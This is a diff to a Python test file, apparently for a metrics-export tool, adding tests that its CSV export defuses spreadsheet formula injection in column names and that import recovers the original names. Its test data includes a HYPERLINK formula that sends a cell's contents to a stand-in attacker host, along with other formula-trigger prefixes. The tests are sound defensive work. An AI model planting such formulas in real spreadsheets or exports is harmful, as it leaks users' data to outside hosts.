@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import math
 import sys
@@ -17,6 +18,7 @@ from isentrope.imports.errors import ImportRefused
 from isentrope.imports.history import read_history
 from isentrope.imports.prime_rl import is_token_export, read_token_export
 from tests.server.in_thread import ServerInThread
+from tests.server.rank import Rank, step_report
 
 Write = Callable[[str, str], Path]
 
@@ -146,6 +148,39 @@ def test_a_run_exported_as_parquet_can_be_imported(
     assert math.isnan(second.scalars["x"])
     imported = json.loads(run_import(server, copy, monkeypatch, "--json").output)
     assert (imported["reports"], imported["last_step"]) == (2, 1)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
+    "@SUM(1)",
+    "+x",
+    "-x",
+    "\tx",
+    "'=x",
+    "''+x",
+    "'quoted",
+    "a=b",
+]
+
+
+def test_no_spreadsheet_runs_a_name_of_an_export_and_import_knows_it_again(
+    server: ServerInThread, tmp_path: Path
+) -> None:
+    rank = Rank(server)
+    rank.send(step_report(0, {name: float(index) for index, name in enumerate(FORMULAS)}))
+    file = tmp_path / "run.csv"
+    file.write_bytes(server.http.get(f"{rank.path}/export", params={"format": "csv"}).content)
+    header = next(csv.reader(file.open(newline="")))
+    assert len(set(header)) == 4 + len(FORMULAS)
+    assert not [name for name in header if name.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert {"a=b", "'quoted", "'@SUM(1)", "''=x"} <= set(header)
+    (report,) = read_history(file)
+    assert report.scalars == {name: float(index) for index, name in enumerate(FORMULAS)}
+
+
+def test_an_apostrophe_in_the_history_of_another_tool_stays(write: Write) -> None:
+    (report,) = read_history(write("theirs.csv", "step,'=x\n0,1.0\n"))
+    assert report.scalars == {"'=x": 1.0}
 
 
 def test_parquet_that_is_torn_or_can_not_be_read_here_is_refused(
